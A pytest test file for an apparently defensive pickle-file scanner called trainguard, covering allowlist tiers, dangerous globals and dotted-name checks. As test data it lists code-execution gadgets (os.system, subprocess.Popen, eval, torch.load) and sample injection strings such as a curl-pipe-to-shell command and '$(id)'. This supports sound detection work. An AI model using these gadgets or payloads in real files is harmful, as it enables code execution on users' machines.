"""The allowlist-first policy: tiers, dotted names, builtins, argument checks."""

from __future__ import annotations

import pytest

from trainguard.findings import Severity
from trainguard.scan.pickle import Tier, classify
from trainguard.scan.pickle._allowlist import KNOWN_EXACT, SAFE_GLOBALS, TORCH_WEIGHTS_ONLY
from trainguard.scan.pickle._denylist import DANGEROUS
from trainguard.scan.pickle._policy import fix_import, looks_like_code, name_danger


@pytest.mark.slow
def test_safe_tier_is_exactly_torchs_weights_only_allowlist() -> None:
    torch = pytest.importorskip("torch")
    from torch._weights_only_unpickler import _get_allowed_globals

    assert torch.__version__.startswith("2.")
    assert set(_get_allowed_globals()) == TORCH_WEIGHTS_ONLY


@pytest.mark.parametrize("full", sorted(SAFE_GLOBALS))
def test_every_safe_global_is_safe(full: str) -> None:
    module, name = full.rsplit(".", 1)
    assert classify(module, name).tier is Tier.SAFE


@pytest.mark.parametrize("full", sorted(KNOWN_EXACT - SAFE_GLOBALS))
def test_every_known_global_is_low(full: str) -> None:
    module, name = full.rsplit(".", 1)
    verdict = classify(module, name)
    assert (verdict.tier, verdict.severity) == (Tier.KNOWN, Severity.LOW)


@pytest.mark.parametrize(
    ("module", "name", "severity"),
    [
        ("os", "system", Severity.CRITICAL),
        ("posix", "system", Severity.CRITICAL),
        ("nt", "system", Severity.CRITICAL),
        ("subprocess", "Popen", Severity.CRITICAL),
        ("builtins", "eval", Severity.CRITICAL),
        ("builtins", "getattr", Severity.CRITICAL),
        ("__builtin__", "exec", Severity.CRITICAL),
        ("builtins", "map", Severity.HIGH),
        ("builtins", "memoryview", Severity.LOW),
        ("pip", "main", Severity.CRITICAL),
        ("pip._internal.cli.main", "main", Severity.CRITICAL),
        ("cProfile", "run", Severity.CRITICAL),
        ("pkgutil", "resolve_name", Severity.CRITICAL),
        ("torch", "load", Severity.CRITICAL),
        ("torch.serialization", "load", Severity.CRITICAL),
        ("torch.hub", "load", Severity.CRITICAL),
        ("torch.utils.collect_env", "run", Severity.CRITICAL),
        ("torch._inductor.codecache", "compile_file", Severity.CRITICAL),
        ("numpy.testing._private.utils", "runstring", Severity.CRITICAL),
        ("numpy", "load", Severity.CRITICAL),
        ("joblib", "load", Severity.CRITICAL),
        ("operator", "attrgetter", Severity.HIGH),
        ("_operator", "methodcaller", Severity.HIGH),
        ("functools", "partial", Severity.HIGH),
        ("functools", "reduce", Severity.CRITICAL),
        ("uuid", "_get_command_stdout", Severity.CRITICAL),
        ("_osx_support", "_read_output", Severity.CRITICAL),
        ("_interpreters", "run_string", Severity.CRITICAL),
        ("torch.nn.modules.module", "register_module_forward_hook", Severity.CRITICAL),
        ("torch.optim.optimizer", "register_optimizer_step_pre_hook", Severity.CRITICAL),
        ("torch", "manual_seed", Severity.HIGH),
        ("torch", "set_default_dtype", Severity.HIGH),
        ("random", "seed", Severity.HIGH),
        ("trainguard.scan", "scan_paths", Severity.CRITICAL),
        ("_private_thing", "helper", Severity.HIGH),
        ("mylib", "system", Severity.HIGH),
    ],
)
def test_dangerous_globals(module: str, name: str, severity: Severity) -> None:
    verdict = classify(module, name)
    assert verdict.severity == severity, verdict
    assert verdict.reason


def test_module_prefix_covers_submodules_and_exceptions_override() -> None:
    assert classify("os.path", "join").tier is Tier.DANGEROUS
    assert classify("types", "SimpleNamespace").tier is Tier.KNOWN
    assert classify("types", "FunctionType").severity == Severity.CRITICAL
    assert "os" in DANGEROUS and "subprocess" in DANGEROUS


@pytest.mark.parametrize(
    ("module", "name", "severity"),
    [
        ("torch", "serialization.os.system", Severity.CRITICAL),
        ("collections", "OrderedDict.__init__.__globals__", Severity.CRITICAL),
        ("numpy", "__builtins__", Severity.CRITICAL),
        ("torch._dynamo.guards", "GuardBuilder.get", Severity.CRITICAL),
        ("trace", "Trace.run", Severity.CRITICAL),
        ("mypackage.models", "Outer.Inner", Severity.HIGH),
    ],
)
def test_dotted_names(module: str, name: str, severity: Severity) -> None:
    verdict = classify(module, name)
    assert verdict.dotted == ("." in name)
    assert verdict.severity == severity


def test_reexported_dangerous_module_is_critical() -> None:
    assert classify("torch.serialization", "os").severity == Severity.CRITICAL


def test_dotted_name_is_never_safe() -> None:
    verdict = classify("torch._utils", "_rebuild_tensor_v2.__call__")
    assert verdict.tier is not Tier.SAFE and verdict.severity is not None
    assert verdict.severity >= Severity.HIGH


def test_unknown_and_known_patterns() -> None:
    assert classify("__main__", "MyModel").severity == Severity.MEDIUM
    assert classify("torch.nn.modules.linear", "Linear").tier is Tier.KNOWN
    assert classify("torch.nn.modules.linear", "helper_function").tier is Tier.UNKNOWN
    assert classify("transformers.models.bert.configuration_bert", "BertConfig").tier is Tier.KNOWN
    assert classify("sklearn.utils._testing", "Foo").tier is Tier.UNKNOWN


@pytest.mark.parametrize(
    ("module", "name"), [("os ", "system"), ("", "x"), ("a", "<lambda>"), ("a..b", "c")]
)
def test_names_that_cannot_be_imported(module: str, name: str) -> None:
    verdict = classify(module, name)
    assert verdict.tier is Tier.UNKNOWN and "not an importable name" in verdict.reason


def test_fix_import_only_below_protocol_3() -> None:
    assert fix_import("__builtin__", "set", 2) == ("builtins", "set")
    assert fix_import("copy_reg", "_reconstructor", 0) == ("copyreg", "_reconstructor")
    assert fix_import("__builtin__", "reduce", 2) == ("functools", "reduce")
    assert fix_import("__builtin__", "set", 3) == ("__builtin__", "set")


@pytest.mark.parametrize(
    ("text", "danger"),
    [
        ("system", True),
        ("os.system", True),
        ("serialization.os", True),
        ("__globals__", True),
        ("shape", False),
        ("weight", False),
    ],
)
def test_name_danger(text: str, danger: bool) -> None:
    assert (name_danger(text) is not None) == danger


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("__import__('os').system('id')", True),
        ("import os; os.system('x')", True),
        ("touch /tmp/x", True),
        ("curl http://example.invalid | sh", True),
        ("$(id)", True),
        ("model.layers.0.weight", False),
        ("cpu", False),
        ("linear", False),
    ],
)
def test_looks_like_code(text: str, code: bool) -> None:
    assert looks_like_code(text) == code
